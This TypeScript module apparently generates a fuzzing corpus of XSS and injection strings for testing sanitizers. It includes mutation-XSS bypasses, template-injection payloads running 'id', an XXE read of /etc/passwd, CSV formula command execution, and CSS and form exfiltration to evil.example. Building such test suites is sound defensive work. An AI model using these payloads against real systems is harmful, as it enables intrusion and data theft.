/**
 * Texts that become a program or an element wherever a page takes text for markup, a style, an address or a template.
 * Made from families, so that each way of writing meets each way of running; always the same list, in the same order.
 * What runs sets `top.ran`; what becomes an element carries `data-xss`.
 */
const RUN = 'top.ran=1';

const TAGS =
  'a audio base body button custom-x details dialog div embed form frameset iframe img input link marquee math meta object select style svg table textarea video'.split(
    ' ',
  );
const HANDLERS =
  'onerror onload onclick onfocus onmouseover onpointerenter ontoggle onanimationstart onbegin onpageshow onscroll onwheel onbeforeinput onmouseenter onpaste oncontentvisibilityautostatechange'.split(
    ' ',
  );

/** Small programs of many kinds, which the other families dress up. */
const SEEDS = [
  `<script data-xss>${RUN}</script>`,
  `<img data-xss src=x onerror=${RUN}>`,
  `<img data-xss src="x" onerror="alert(1)">`,
  `<svg data-xss onload=${RUN}>`,
  `<svg data-xss><script>${RUN}</script></svg>`,
  `<iframe data-xss srcdoc="<script>${RUN}</script>"></iframe>`,
  `<a data-xss href="javascript:${RUN}">press</a>`,
  `<details data-xss open ontoggle=${RUN}>`,
  `<input data-xss autofocus onfocus=${RUN}>`,
  `<math data-xss><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<style data-xss>*{background:red}</style>`,
  `<base data-xss href="https://evil.example/">`,
  `<meta data-xss http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link data-xss rel=stylesheet href="https://evil.example/x.css">`,
  `<object data-xss data="javascript:${RUN}"></object>`,
  `<form data-xss action="https://evil.example/"><button>Sign in</button></form>`,
  `<video data-xss><source onerror=${RUN}></video>`,
  `<script data-xss src=data:,${RUN}></script>`,
];

function handlers(): string[] {
  return TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} data-xss src=x autofocus open ${handler}=${RUN}>`));
}

const hexOf = (text: string, width: number) =>
  [...text].map((letter) => (letter.codePointAt(0) ?? 0).toString(16).padStart(width, '0'));

const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => [...text].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join(''),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#62'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll('>', '&#x000003E'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => `\\u${hexOf(text, 4).join('\\u')}`,
  (text) => `\\x${hexOf(text, 2).join('\\x')}`,
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.replaceAll(' ', '\u000c'),
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => `\u202e${text}\u202c`,
  (text) => `\u2066${text}\u2069\u200f`,
  (text) => text.replaceAll('<', '<<').replaceAll('>', '>>'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('s', '\u017f').replaceAll('k', '\u212a'),
  (text) => `data:text/html;base64,${Buffer.from(text).toString('base64')}`,
];

/** What may stand around a text in a page, and how one gets out of it. */
const WAYS_OUT: readonly (readonly [before: string, after: string])[] = [
  ['"', ''],
  ["'", ''],
  ['">', ''],
  ["'>", ''],
  ['`>', ''],
  ['" ', ' x="'],
  ['</title>', ''],
  ['</textarea>', '<textarea>'],
  ['</style>', '<style>'],
  ['</script>', '<script>'],
  ['</noscript>', ''],
  ['</template>', ''],
  ['</select></option>', ''],
  ['</p></div></td></table>', ''],
  ['-->', '<!--'],
  [']]>', '<![CDATA['],
  ['<!--><', '>'],
  ['*/', '/*'],
  ['\\";', '//'],
  ["\\';", '//'],
  ['${', '}'],
  ['&quot;&gt;', ''],
  ['\u2028', '\u2029'],
  ['{"a":"', '"}'],
  ['?>', '<?'],
];

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript:%74op.ran=1`,
  `javascript://example.org/%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script>*/${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://example.org/${RUN}`,
  `//evil.example/${RUN}`,
];
const PLACES_OF_ADDRESSES: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a data-xss href="${address}">press</a>`,
  (address) => `<a data-xss href=${address}>press</a>`,
  (address) => `[press](${address})`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[press]: ${address}`,
  (address) => `<svg><a data-xss xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<iframe data-xss src="${address}">`,
  (address) => `<form data-xss action="${address}"><input type=submit>`,
  (address) => `<button data-xss formaction="${address}">press</button>`,
  (address) => `<object data-xss data="${address}">`,
  (address) => `<embed data-xss src="${address}">`,
  (address) => `<meta data-xss http-equiv=refresh content="0;url=${address}">`,
  (address) => `<img data-xss src="${address}" srcset="${address} 2x">`,
  (address) => `<div data-xss style="background:url('${address}')">`,
  (address) => `url(${address})`,
  (address) => `@import '${address}';`,
];

const DRAWINGS = [
  `<svg data-xss><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg data-xss><set attributeName=onmouseover to=${RUN}>`,
  `<svg data-xss><animate attributeName=href values=javascript:${RUN} /><a id=x><text>x</text></a>`,
  `<svg data-xss><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg data-xss><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/>`,
  `<svg data-xss><style>@import 'https://evil.example/x.css'</style></svg>`,
  `<svg data-xss xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `<svg data-xss><image href=x onerror=${RUN}>`,
  `<svg data-xss><handler type="application/ecmascript">${RUN}</handler></svg>`,
  `<svg data-xss><feImage xlink:href="javascript:${RUN}"/></svg>`,
  `<math data-xss><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math data-xss href="javascript:${RUN}">x</math>`,
  `<math data-xss><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
];

/** Markup that a cleaner reads in one way and the browser, after writing it again, in another. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img data-xss src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img data-xss src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img data-xss title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img data-xss src onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><math><table id="</table>"><img data-xss src onerror=${RUN}">`,
  `<svg><![CDATA[><img data-xss src=x onerror=${RUN}>]]></svg>`,
  `<select><template><style></select><img data-xss src=x onerror=${RUN}></style>`,
  `<listing>&lt;img data-xss src=x onerror=${RUN}&gt;</listing>`,
  `<xmp><p title="</xmp><img data-xss src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><svg data-xss onload=${RUN}>">`,
  `<title><p id="</title><svg data-xss onload=${RUN}>">`,
  `<iframe><p id="</iframe><svg data-xss onload=${RUN}>">`,
  `<plaintext><svg data-xss onload=${RUN}>`,
  `<template shadowrootmode=open><img data-xss src=x onerror=${RUN}></template>`,
  `<table><td><svg><desc><td><img data-xss src=x onerror=${RUN}>`,
  `<a><svg></a><style><img data-xss src=x onerror=${RUN}>`,
];
const AROUND: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `<div>${text}</div>`,
  (text) => `<svg>${text}`,
  (text) => `<math>${text}`,
  (text) => `<table><tr>${text}`,
  (text) => `<!--${text}-->`,
];

const EXPRESSIONS = [
  RUN,
  `constructor.constructor('${RUN}')()`,
  `[].constructor.constructor('${RUN}')()`,
  `$eval.constructor('${RUN}')()`,
  `_c.constructor('${RUN}')()`,
  `''.sub.call.call({}['constructor'].getOwnPropertyDescriptor,'x','${RUN}')`,
  '7*7',
  `config.__class__.__init__.__globals__`,
  `process.mainModule.require('child_process').execSync('id')`,
  `T(java.lang.Runtime).getRuntime().exec('id')`,
];
const TEMPLATES: readonly ((expression: string) => string)[] = [
  (expression) => `{{${expression}}}`,
  (expression) => `{{{${expression}}}}`,
  (expression) => `{{{{raw}}}}${expression}{{{{/raw}}}}`,
  (expression) => `\${${expression}}`,
  (expression) => `\${{${expression}}}`,
  (expression) => `#{${expression}}`,
  (expression) => `*{${expression}}`,
  (expression) => `@{${expression}}`,
  (expression) => `<%= ${expression} %>`,
  (expression) => `<% ${expression} %>`,
  (expression) => `{% ${expression} %}`,
  (expression) => `[[${expression}]]`,
  (expression) => `[(${expression})]`,
  (expression) => `{${expression}}`,
  (expression) => `$t(${expression})`,
  (expression) => `{{- ${expression}, raw}}`,
  (expression) => `<div data-xss v-html="'${expression}'" ng-app x-init="${expression}">`,
];

const STYLES = [
  `expression(${RUN})`,
  `url(javascript:${RUN})`,
  `-moz-binding:url(https://evil.example/x.xml#x)`,
  `behavior:url(https://evil.example/x.htc)`,
  `@import url(https://evil.example/x.css)`,
  `*{position:fixed;inset:0;background:red}`,
  `input[value^=a]{background:url(https://evil.example/a)}`,
  `\\65xpression(${RUN})`,
  `@font-face{font-family:x;src:url(https://evil.example/x)}`,
  `:root{--x:url(https://evil.example/v)}`,
];
const PLACES_OF_STYLES: readonly ((style: string) => string)[] = [
  (style) => style,
  (style) => `<style data-xss>${style}</style>`,
  (style) => `<div data-xss style="${style}">`,
  (style) => `</style><style data-xss>${style}`,
  (style) => `;${style};`,
  (style) => `"}${style}{"`,
  (style) => `red;${style}`,
];

/** One text for many places at once. */
const POLYGLOTS = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg data-xss/<sVg data-xss/oNloAd=${RUN}//>\\x3e`,
  `"'--></style></script></title></textarea><svg data-xss onload=${RUN}>`,
  `';${RUN}//';${RUN}//";${RUN}//--></SCRIPT>">'><SCRIPT data-xss>${RUN}</SCRIPT>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x data-xss>&e;</x>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `]]></description></item><item><title><![CDATA[<script data-xss>${RUN}</script>`,
  `<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script data-xss>${RUN}</x:script></html>`,
  `=HYPERLINK("https://evil.example","press")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `__proto__`,
  `constructor`,
  `toString`,
  `%s%n%x{0}{1}`,
  `\u202egnp.exe`,
  `a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a<b data-xss>`,
  `\u{e0041}\u{e0042}<i data-xss>\ufeff\u00ad\uffff</i>`,
];

const across = <A, B>(one: readonly A[], other: readonly B[], join: (a: A, b: B) => string) =>
  one.flatMap((a) => other.map((b) => join(a, b)));

/** All of them, each once. None has U+0000 or half a character, which no field takes. */
export const XSS_STRINGS: readonly string[] = [
  ...new Set([
    ...across(SEEDS, ENCODINGS, (seed, encode) => encode(seed)),
    ...across(SEEDS, WAYS_OUT, (seed, [before, after]) => `${before}${seed}${after}`),
    ...handlers(),
    ...across(SCHEMES, PLACES_OF_ADDRESSES, (scheme, place) => place(scheme)),
    ...across(DRAWINGS, AROUND, (drawing, around) => around(drawing)),
    ...across(MUTATIONS, AROUND, (mutation, around) => around(mutation)),
    ...across(EXPRESSIONS, TEMPLATES, (expression, template) => template(expression)),
    ...across(STYLES, PLACES_OF_STYLES, (style, place) => place(style)),
    ...POLYGLOTS,
  ]),
];

/** As many as fit into one field, joined; then the next field's. */
export function packed(strings: readonly string[], maxUnits: number, between = '\n'): readonly string[] {
  const fields: string[] = [];
  let field = '';
  for (const text of strings) {
    const longer = field === '' ? text : `${field}${between}${text}`;
    if (longer.length <= maxUnits) field = longer;
    else {
      if (field !== '') fields.push(field);
      field = text.length <= maxUnits ? text : '';
    }
  }
  return field === '' ? fields : [...fields, field];
}
